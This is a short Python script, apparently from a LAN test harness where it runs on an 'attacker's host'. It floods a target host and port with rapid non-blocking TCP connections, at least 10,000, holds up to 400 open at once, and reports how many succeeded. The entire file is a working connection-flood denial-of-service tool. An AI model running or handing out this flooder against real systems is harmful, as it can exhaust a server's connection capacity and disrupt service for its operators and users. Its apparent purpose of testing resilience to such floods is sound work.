"""flood.py HOST PORT: connects as fast as it can, at least 10,000 times and until its standard input
ends, and holds what it is left with. Says how often it connected. For the attacker's host (lan exec)."""
import errno
import selectors
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
LEAST, HELD = 10_000, 400
PENDING = (errno.EINPROGRESS, errno.EAGAIN)
held, tried, stood = [], 0, 0
waiting = selectors.DefaultSelector()
begun = time.monotonic()
waiting.register(sys.stdin, selectors.EVENT_READ)
ended = False
print("flooding", flush=True)
while tried < LEAST or not ended:
    if len(held) >= HELD:
        held.pop(0).close()
    if len(waiting.get_map()) < HELD:
        one = socket.socket()
        one.setblocking(False)
        tried += 1
        if one.connect_ex((host, port)) in PENDING:
            waiting.register(one, selectors.EVENT_WRITE)
        else:
            held.append(one)
    for key, _ in waiting.select(0 if len(waiting.get_map()) < HELD else 0.05):
        waiting.unregister(key.fileobj)
        if key.fileobj is sys.stdin:
            ended = True
            continue
        if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            stood += 1
        held.append(key.fileobj)
took = time.monotonic() - begun
print(f"{tried} connections tried, {stood} stood, in {took:.1f} s", flush=True)
